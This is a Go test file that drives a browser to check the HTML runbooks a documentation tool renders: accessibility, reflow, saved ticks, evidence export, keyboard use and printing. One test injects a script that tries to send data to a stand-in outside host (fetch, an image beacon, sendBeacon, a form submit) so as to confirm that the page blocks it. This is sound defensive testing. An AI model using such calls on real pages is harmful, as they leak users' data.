package browser_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"github.com/triptych-docs/triptych/model"
	"github.com/triptych-docs/triptych/model/compile"
	"github.com/triptych-docs/triptych/model/fixture"
	"github.com/triptych-docs/triptych/model/profile"
	"github.com/triptych-docs/triptych/model/source"
	"github.com/triptych-docs/triptych/render"
	"github.com/triptych-docs/triptych/site/browser"
)

const profiles = "../../testdata/profiles"

// bound is a profile of testdata, read and bound.
func bound(t testing.TB, all *model.Project, name string) *profile.Bound {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(profiles, name))
	if err != nil {
		t.Fatal(err)
	}
	var faults source.List
	b := profile.Bind(all, profile.Read(&source.File{Name: name, Text: text}, &faults), "2026-12-05", &faults)
	if b == nil {
		t.Fatal(faults.Error())
	}
	return b
}

// runbook is the file that the command of that name writes.
func runbook(t testing.TB, all *model.Project, b *profile.Bound, format render.Format) []byte {
	t.Helper()
	compiled, err := compile.Compile(all, b.Procedure, compile.Options{Answers: b.Answers})
	if err != nil {
		t.Fatal(err)
	}
	r, err := render.NewRunbook(compiled)
	if err != nil {
		t.Fatal(err)
	}
	files, err := r.Fill(render.Customer{Values: b.Values, Model: all.Hash, Change: b.Change(), Profile: b.YAML()}, format)
	if err != nil {
		t.Fatal(err)
	}
	return files[0].Data
}

// page is the runbook of a profile as a file.
func page(t testing.TB, profile string) string {
	t.Helper()
	all := fixture.Content(t)
	return browser.Write(t, "runbook.html", runbook(t, all, bound(t, all, profile), render.HTML))
}

func files(t testing.TB) []string {
	t.Helper()
	all, err := filepath.Glob(profiles + "/*.*")
	if err != nil || len(all) < 10 {
		t.Fatalf("%d profiles, %v", len(all), err)
	}
	for i, f := range all {
		all[i] = filepath.Base(f)
	}
	return all
}

func TestRunbookIsAccessible(t *testing.T) {
	for _, name := range []string{"drawn.yaml", "regional.yaml", "quotes.json", "mimecast.yaml"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := browser.New(t)
			p.Open(browser.File(t, page(t, name)))
			p.Axe("light")
			p.Scheme("dark")
			p.AxeColours("dark")
			p.Width(320)
			p.AxeWidth("narrow")
			if faults := p.Faults(); len(faults) > 0 {
				t.Errorf("faults: %q", faults)
			}
		})
	}
}

func TestRunbookIsValidHTML(t *testing.T) {
	var pages []string
	for _, name := range files(t) {
		pages = append(pages, page(t, name))
	}
	browser.Validate(t, pages)
}

// One file, one request: whatever is in the page is in the file.
func TestRunbookAsksForNothing(t *testing.T) {
	p := browser.New(t)
	url := browser.File(t, page(t, "acme.yaml"))
	p.Open(url)
	p.Click("input[data-tick]")
	if got := p.Requests(); !slices.Equal(got, []string{url}) {
		t.Errorf("the page asked for %q", got)
	}
	// What a script that got into it could try is refused.
	p.Forget()
	p.Do(`fetch("https://elsewhere.example/").catch(() => {}); new Image().src = "https://elsewhere.example/i.png";
		navigator.sendBeacon("https://elsewhere.example/b", "x");
		const f = document.createElement("form"); f.action = "https://elsewhere.example/f"; document.body.append(f); f.submit()`)
	p.Frames(3)
	for _, asked := range p.Requests() {
		if strings.HasPrefix(asked, "http") {
			t.Errorf("the page could ask for %s", asked)
		}
	}
	if n := len(p.Faults()); n == 0 {
		t.Error("nothing was refused")
	}
}

func TestRunbookReflows(t *testing.T) {
	for _, name := range []string{"acme.yaml", "drawn.yaml", "regional.yaml", "quotes.json", "mimecast.yaml"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := browser.New(t)
			p.Width(320)
			p.Open(browser.File(t, page(t, name)))
			p.Screenshot("runbook-320-" + name)
			if over := sideways(p); len(over) > 0 {
				t.Errorf("these go over the edge at 320 px: %q", over)
			}
			if begun := begunByStop(p); len(begun) > 0 {
				t.Errorf("these are followed by a line that begins with their full stop: %q", begun)
			}
		})
	}
}

// sideways are elements beyond the right edge of the window that do not scroll
// by themselves; nothing where the page does not scroll sideways.
func sideways(p *browser.Page) []string {
	return browser.Eval[[]string](p, `(() => {
		const root = document.documentElement;
		if (root.scrollWidth <= root.clientWidth) return [];
		return [...document.body.querySelectorAll("*")].filter(e => e.getBoundingClientRect().right > root.clientWidth + 0.5)
			.map(e => e.tagName + "." + e.className + " " + e.textContent.slice(0, 40)).slice(0, 10);
	})()`)
}

// Ticks, blanks and notes are there again when the page is opened again; another
// runbook does not have them.
func TestRunbookKeepsTicks(t *testing.T) {
	p := browser.New(t)
	path := page(t, "acme.yaml")
	p.Open(browser.File(t, path))
	if !browser.Eval[bool](p, `document.getElementById("page:unkept").hidden`) {
		t.Fatal("the page keeps nothing")
	}
	p.Click(".task .do")
	p.Click("input[data-tick]")
	p.Type("input[data-blank]", "08:15 UTC")
	p.Click("button.add")
	p.Type(".remark textarea", "It took two tries.")
	ticked := browser.Eval[int](p, `document.querySelectorAll("input[data-tick]:checked").length`)
	p.Reload()
	if got := browser.Eval[int](p, `document.querySelectorAll("input[data-tick]:checked").length`); got != ticked || got == 0 {
		t.Errorf("%d boxes are ticked, %d were", got, ticked)
	}
	if got := browser.Eval[string](p, `document.querySelector("input[data-blank]").value`); got != "08:15 UTC" {
		t.Errorf("the blank has %q", got)
	}
	if got := browser.Eval[string](p, `document.querySelector(".remark textarea").value`); got != "It took two tries." {
		t.Errorf("the note is %q", got)
	}
	p.Open(browser.File(t, page(t, "direct.yaml")))
	if got := browser.Eval[int](p, `document.querySelectorAll("input[data-tick]:checked").length`); got != 0 {
		t.Errorf("%d boxes of another runbook are ticked", got)
	}
	p.Open(browser.File(t, path))
	p.AcceptDialogs()
	p.Click(`[id="page:reset"]`)
	p.Reload()
	if got := browser.Eval[int](p, `document.querySelectorAll("input[data-tick]:checked").length`); got != 0 {
		t.Errorf("%d boxes are ticked after starting over", got)
	}
}

// The evidence is Markdown with every box, the time of those ticked, what was
// written into blanks, and notes.
func TestRunbookExportsEvidence(t *testing.T) {
	all := fixture.Content(t)
	b := bound(t, all, "acme.yaml")
	p := browser.New(t)
	p.Open(browser.File(t, page(t, "acme.yaml")))
	p.Click("input[data-tick]")
	p.Click("button.add")
	p.Type(".remark textarea", "As *expected*.\nNext line.")
	p.Click(`[id="page:export"]`)
	id := render.ID(all.Hash, b.Change())
	text := string(p.Download("evidence-" + id + ".md"))
	boxes := browser.Eval[int](p, `document.querySelectorAll("input[data-tick]").length`)
	if got := strings.Count(text, "- [ ] ") + strings.Count(text, "- [x] "); got != boxes {
		t.Errorf("the evidence has %d boxes, the page %d", got, boxes)
	}
	if got := strings.Count(text, "- [x] "); got != 1 {
		t.Errorf("%d are ticked", got)
	}
	for _, want := range []string{"- Runbook: " + id, " UTC\n  - Note: As \\*expected\\*.  \n    Next line.\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("the evidence does not have %q:\n%s", want, text)
		}
	}
}

// With scripts off everything is there to be read and ticked.
func TestRunbookWithoutScripts(t *testing.T) {
	with, without := browser.New(t), browser.New(t)
	path := browser.File(t, page(t, "acme.yaml"))
	without.NoScript()
	for _, p := range []*browser.Page{with, without} {
		p.Open(path)
		p.Do(`document.querySelectorAll(".chrome").forEach(e => e.remove())`)
	}
	const words = `document.querySelector("main").textContent.replace(/\s+/g, " ")`
	if a, b := browser.Eval[string](with, words), browser.Eval[string](without, words); a != b {
		t.Errorf("the page says something else without scripts")
	}
	without.Click("input[data-tick]")
	if !browser.Eval[bool](without, `document.querySelector("input[data-tick]").checked`) {
		t.Error("a box cannot be ticked without scripts")
	}
}

// Every control is reached with the keyboard and seen when it is: it has the
// focus ring, and nothing covers it.
func TestRunbookByKeyboard(t *testing.T) {
	p := browser.New(t)
	p.Open(browser.File(t, page(t, "acme.yaml")))
	keyboardOnly(t, p, 40)
	p.Do(`document.querySelector("input[data-tick]").focus()`)
	p.Press(" ")
	if !browser.Eval[bool](p, `document.querySelector("input[data-tick]").checked`) {
		t.Error("the space bar ticks no box")
	}
}

// keyboardOnly goes through the first controls of a page by Tab.
func keyboardOnly(t *testing.T, p *browser.Page, first int) {
	t.Helper()
	type control struct {
		What            string
		Covered, Unseen bool
	}
	seen := map[string]bool{}
	for range first {
		p.Press(kb.Tab)
		p.Frames(1)
		c := browser.Eval[control](p, `(() => {
			const e = document.activeElement, r = e.getBoundingClientRect();
			const x = r.left + r.width / 2, y = r.top + r.height / 2, top = document.elementFromPoint(x, y);
			window.visited = window.visited || new Map();
			if (!visited.has(e)) visited.set(e, visited.size);
			return {
				What: visited.get(e) + " " + e.tagName + " " + (e.id || e.textContent.trim().slice(0, 30)),
				Covered: e !== document.body && !(top && (e.contains(top) || top.contains(e))),
				Unseen: e !== document.body && [e, e.closest("label")].every(x => !x || getComputedStyle(x).outlineStyle === "none" && getComputedStyle(x).boxShadow === "none"),
			};
		})()`)
		seen[c.What] = true
		if c.Covered {
			t.Errorf("%s is covered when it has the focus", c.What)
		}
		if c.Unseen {
			t.Errorf("%s shows no focus", c.What)
		}
	}
	if len(seen) < first/2 {
		t.Errorf("Tab reaches %d controls: %v", len(seen), seen)
	}
}

// Printed, it shows no controls and holds each value in one piece.
func TestRunbookPrints(t *testing.T) {
	p := browser.New(t)
	p.Open(browser.File(t, page(t, "acme.yaml")))
	p.Print()
	shown := browser.Eval[[]string](p, `[...document.querySelectorAll("button, nav, progress, textarea")].filter(e => e.checkVisibility()).map(e => e.outerHTML.slice(0, 80))`)
	if len(shown) > 0 {
		t.Errorf("printed with controls: %q", shown)
	}
	if pdf := p.PDF(); !bytes.HasPrefix(pdf, []byte("%PDF-")) || len(pdf) < 20_000 {
		t.Errorf("%d bytes are no PDF of it", len(pdf))
	}
}

// begunByStop are the values with a button behind them whose full stop, or comma,
// stands on the next line.
func begunByStop(p *browser.Page) []string {
	return browser.Eval[[]string](p, `[...document.querySelectorAll(".copyable")].filter(e => {
		const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), button = e.querySelector("button");
		walk.currentNode = button;
		let text = walk.nextNode();
		while (text && button.contains(text)) { text = walk.nextNode(); }
		if (!text || !/^[.,:;?]/.test(text.data) || !e.parentNode.contains(text)) { return false; }
		const range = document.createRange();
		range.setStart(text, 0);
		range.setEnd(text, 1);
		return range.getBoundingClientRect().top >= button.getBoundingClientRect().bottom;
	}).map(e => e.textContent)`)
}
